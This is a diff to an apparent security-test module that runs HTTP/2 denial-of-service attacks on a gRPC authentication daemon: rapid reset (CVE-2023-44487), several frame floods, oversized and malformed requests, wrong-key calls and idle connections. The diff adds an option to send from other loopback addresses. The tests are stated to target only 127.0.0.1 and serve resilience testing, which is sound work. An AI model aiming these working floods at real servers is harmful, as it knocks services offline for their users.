@@ -7,7 +7,8 @@ slow the witness, not the daemon):
 
     python -m tests.security.attacks rapid-reset 127.0.0.1:8080 --seconds 20
 
-Tests aim these at 127.0.0.1 only.
+Tests aim these at 127.0.0.1 only. `source` (the CLI's --source) makes an attack's connections
+leave from another loopback address (127.0.0.2, ...): another peer, as a stranger would be.
 """
 
 from __future__ import annotations
@@ -21,9 +22,9 @@ import socket
 import struct
 import sys
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import asdict, dataclass, field
-from typing import Any
+from typing import Any, Protocol
 
 from grpclib.client import Channel
 from grpclib.exceptions import GRPCError, StreamTerminatedError
@@ -92,8 +93,10 @@ class AttackReport:
 class RawConnection:
     """One HTTP/2 client connection over a blocking socket; nothing checked on the way out."""
 
-    def __init__(self, address: str, timeout: float = 2.0) -> None:
-        self.sock = socket.create_connection(split_address(address), timeout)
+    def __init__(self, address: str, timeout: float = 2.0, source: str | None = None) -> None:
+        self.sock = socket.create_connection(
+            split_address(address), timeout, source_address=(source, 0) if source else None
+        )
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.h2 = H2Connection(H2Configuration(
             client_side=True, header_encoding="utf-8", validate_outbound_headers=False,
@@ -160,11 +163,13 @@ class RawConnection:
             self.sock.close()
 
 
-def _connections(address: str, report: AttackReport, until: float) -> Iterator[RawConnection]:
+def _connections(
+    address: str, report: AttackReport, until: float, source: str | None = None
+) -> Iterator[RawConnection]:
     """New connections until `until`, counting each one (and each refusal, with a short pause)."""
     while time.monotonic() < until:
         try:
-            conn = RawConnection(address)
+            conn = RawConnection(address, source=source)
         except OSError:
             report.refused_connections += 1
             time.sleep(0.05)
@@ -179,12 +184,14 @@ def _connections(address: str, report: AttackReport, until: float) -> Iterator[R
             conn.close()
 
 
-def rapid_reset(address: str, seconds: float, *, batch: int = 100) -> AttackReport:
+def rapid_reset(
+    address: str, seconds: float, *, batch: int = 100, source: str | None = None
+) -> AttackReport:
     """HTTP/2 rapid reset (CVE-2023-44487): open Authenticate calls and cancel each at once,
     `batch` pairs per write, reconnecting whenever the daemon closes the connection."""
     report, until = AttackReport("rapid-reset"), time.monotonic() + seconds
     started = time.monotonic()
-    for conn in _connections(address, report, until):
+    for conn in _connections(address, report, until, source):
         headers = conn.request_headers(AUTHENTICATE)
         while not conn.closed and time.monotonic() < until:
             for _ in range(batch):
@@ -199,12 +206,12 @@ def rapid_reset(address: str, seconds: float, *, batch: int = 100) -> AttackRepo
 
 
 def _frame_flood(
-    name: str, frame: bytes, address: str, seconds: float, batch: int
+    name: str, frame: bytes, address: str, seconds: float, *, batch: int, source: str | None
 ) -> AttackReport:
     report, until = AttackReport(name), time.monotonic() + seconds
     started = time.monotonic()
     burst = frame * batch
-    for conn in _connections(address, report, until):
+    for conn in _connections(address, report, until, source):
         conn.pump(0.2)  # the daemon's SETTINGS first, so later bytes need no parsing
         while not conn.closed and time.monotonic() < until:
             conn.send(burst)
@@ -214,27 +221,36 @@ def _frame_flood(
     return report
 
 
-def ping_flood(address: str, seconds: float, *, batch: int = 500) -> AttackReport:
+def ping_flood(
+    address: str, seconds: float, *, batch: int = 500, source: str | None = None
+) -> AttackReport:
     """PING frames as fast as the socket takes them (each one the daemon must answer)."""
     frame = PingFrame(0, opaque_data=b"tether!!").serialize()
-    return _frame_flood("ping-flood", frame, address, seconds, batch)
+    return _frame_flood("ping-flood", frame, address, seconds, batch=batch, source=source)
 
 
-def priority_flood(address: str, seconds: float, *, batch: int = 500) -> AttackReport:
+def priority_flood(
+    address: str, seconds: float, *, batch: int = 500, source: str | None = None
+) -> AttackReport:
     """PRIORITY frames (for stream 1, never opened) as fast as the socket takes them."""
     frame = PriorityFrame(1, depends_on=0, stream_weight=15).serialize()
-    return _frame_flood("priority-flood", frame, address, seconds, batch)
+    return _frame_flood("priority-flood", frame, address, seconds, batch=batch, source=source)
 
 
-def window_update_flood(address: str, seconds: float, *, batch: int = 500) -> AttackReport:
+def window_update_flood(
+    address: str, seconds: float, *, batch: int = 500, source: str | None = None
+) -> AttackReport:
     """Connection WINDOW_UPDATE frames of one byte each as fast as the socket takes them."""
     frame = WindowUpdateFrame(0, window_increment=1).serialize()
-    return _frame_flood("window-update-flood", frame, address, seconds, batch)
+    return _frame_flood("window-update-flood", frame, address, seconds, batch=batch, source=source)
 
 
-def settings_flood(address: str, seconds: float, *, batch: int = 500) -> AttackReport:
+def settings_flood(
+    address: str, seconds: float, *, batch: int = 500, source: str | None = None
+) -> AttackReport:
     """Empty SETTINGS frames as fast as the socket takes them (each one the daemon must ACK)."""
-    return _frame_flood("settings-flood", SettingsFrame(0).serialize(), address, seconds, batch)
+    frame = SettingsFrame(0).serialize()
+    return _frame_flood("settings-flood", frame, address, seconds, batch=batch, source=source)
 
 
 def _await_reply(conn: RawConnection, stream_id: int, until: float) -> str:
@@ -279,7 +295,7 @@ def unary_call(
 
 def oversized_request(
     address: str, *, declared: int = (4 << 30) - 1, body: int = 256 << 20, seconds: float = 60.0,
-    stall: float = 3.0, metadata: dict[str, str] | None = None,
+    stall: float = 3.0, metadata: dict[str, str] | None = None, source: str | None = None,
 ) -> AttackReport:
     """One Authenticate call whose 5-byte prefix declares `declared` bytes, then `body` bytes of
     it as fast as flow control lets them through; stops at the daemon's answer, its reset, its
@@ -287,7 +303,7 @@ def oversized_request(
     keyed peer's call."""
     report, until = AttackReport("oversized-request"), time.monotonic() + seconds
     started = time.monotonic()
-    conn = RawConnection(address)
+    conn = RawConnection(address, source=source)
     report.connections = 1
     stream_id = conn.h2.get_next_available_stream_id()
     conn.h2.send_headers(stream_id, conn.request_headers(AUTHENTICATE, metadata))
@@ -339,7 +355,9 @@ def _outcome(events: list[Any], stream_id: int) -> str:
     return ""
 
 
-def malformed_requests(address: str, count: int, *, timeout: float = 5.0) -> AttackReport:
+def malformed_requests(
+    address: str, count: int, *, timeout: float = 5.0, source: str | None = None
+) -> AttackReport:
     """`count` Authenticate calls whose body is not a protobuf message, or ends before the
     length its prefix declares (in turn), one after another on as few connections as the
     daemon allows."""
@@ -347,7 +365,7 @@ def malformed_requests(address: str, count: int, *, timeout: float = 5.0) -> Att
     started = time.monotonic()
     payloads = [grpc_message(MALFORMED_BODY), grpc_message(b"\x0a\x01", declared=10)]
     until = started + timeout * count
-    for conn in _connections(address, report, until):
+    for conn in _connections(address, report, until, source):
         while report.requests < count and not conn.closed:
             payload = payloads[report.requests % len(payloads)]
             report.requests += 1
@@ -373,13 +391,15 @@ BAD_HEADERS: dict[str, list[tuple[str, str]]] = {
 }
 
 
-def malformed_headers(address: str, count: int, *, timeout: float = 5.0) -> AttackReport:
+def malformed_headers(
+    address: str, count: int, *, timeout: float = 5.0, source: str | None = None
+) -> AttackReport:
     """`count` calls with the headers in BAD_HEADERS in turn, on as few connections as the
     daemon allows."""
     report = AttackReport("malformed-headers")
     started, payload = time.monotonic(), grpc_message(b"")
     kinds = list(BAD_HEADERS.values())
-    for conn in _connections(address, report, started + timeout * count):
+    for conn in _connections(address, report, started + timeout * count, source):
         while report.requests < count and not conn.closed:
             headers = kinds[report.requests % len(kinds)]
             report.requests += 1
@@ -394,14 +414,16 @@ def malformed_headers(address: str, count: int, *, timeout: float = 5.0) -> Atta
     return report
 
 
-def wrong_key_calls(address: str, count: int, *, timeout: float = 5.0) -> AttackReport:
+def wrong_key_calls(
+    address: str, count: int, *, timeout: float = 5.0, source: str | None = None
+) -> AttackReport:
     """`count` Authenticate calls with a made-up key, one after another on ONE connection."""
     report, started = AttackReport("wrong-key-calls"), time.monotonic()
     request = auth_pb2.AuthenticateRequest(
         entity="guess", credentials=auth_pb2.Credentials(type="api-key", payload="guess")
     )
     payload = grpc_message(request.SerializeToString())
-    conn = RawConnection(address)
+    conn = RawConnection(address, source=source)
     report.connections = 1
     while report.requests < count and not conn.closed:
         report.requests += 1
@@ -414,11 +436,11 @@ def wrong_key_calls(address: str, count: int, *, timeout: float = 5.0) -> Attack
     return report
 
 
-def idle_connection(address: str, seconds: float) -> AttackReport:
+def idle_connection(address: str, seconds: float, *, source: str | None = None) -> AttackReport:
     """An HTTP/2 connection that completes its handshake and then says nothing for `seconds`
     (answering the daemon's PINGs, as any HTTP/2 client library does)."""
     report, started = AttackReport("idle-connection"), time.monotonic()
-    conn = RawConnection(address)
+    conn = RawConnection(address, source=source)
     report.connections = 1
     while not conn.closed and time.monotonic() - started < seconds:
         conn.pump(0.1)
@@ -430,21 +452,31 @@ def idle_connection(address: str, seconds: float) -> AttackReport:
     return report
 
 
-ATTACKS: dict[str, Callable[[str, float], AttackReport]] = {
+class Attack(Protocol):
+    """An attack run for `seconds` against HOST:PORT, its connections from `source`."""
+
+    def __call__(
+        self, address: str, seconds: float, *, source: str | None = None
+    ) -> AttackReport: ...
+
+
+ATTACKS: dict[str, Attack] = {
     "rapid-reset": rapid_reset,
     "ping-flood": ping_flood,
     "settings-flood": settings_flood,
     "priority-flood": priority_flood,
     "window-update-flood": window_update_flood,
-    "oversized-request": lambda address, seconds: oversized_request(address, seconds=seconds),
-    "malformed-requests": lambda address, seconds: malformed_requests(
-        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds)
+    "oversized-request": lambda address, seconds, source=None: oversized_request(
+        address, seconds=seconds, source=source
     ),
-    "malformed-headers": lambda address, seconds: malformed_headers(
-        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds)
+    "malformed-requests": lambda address, seconds, source=None: malformed_requests(
+        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds), source=source
     ),
-    "wrong-key-calls": lambda address, seconds: wrong_key_calls(
-        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds)
+    "malformed-headers": lambda address, seconds, source=None: malformed_headers(
+        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds), source=source
+    ),
+    "wrong-key-calls": lambda address, seconds, source=None: wrong_key_calls(
+        address, max(1, round(seconds * 50)), timeout=min(5.0, seconds), source=source
     ),
     "idle-connection": idle_connection,
 }
@@ -521,8 +553,9 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("attack", choices=sorted(ATTACKS))
     parser.add_argument("address", help="HOST:PORT of the daemon (tests use 127.0.0.1)")
     parser.add_argument("--seconds", type=float, default=5.0)
+    parser.add_argument("--source", help="a loopback address to attack from (e.g. 127.0.0.2)")
     args = parser.parse_args(argv)
-    report = ATTACKS[args.attack](args.address, args.seconds)
+    report = ATTACKS[args.attack](args.address, args.seconds, source=args.source)
     print(json.dumps(asdict(report)), flush=True)
     return 0
 
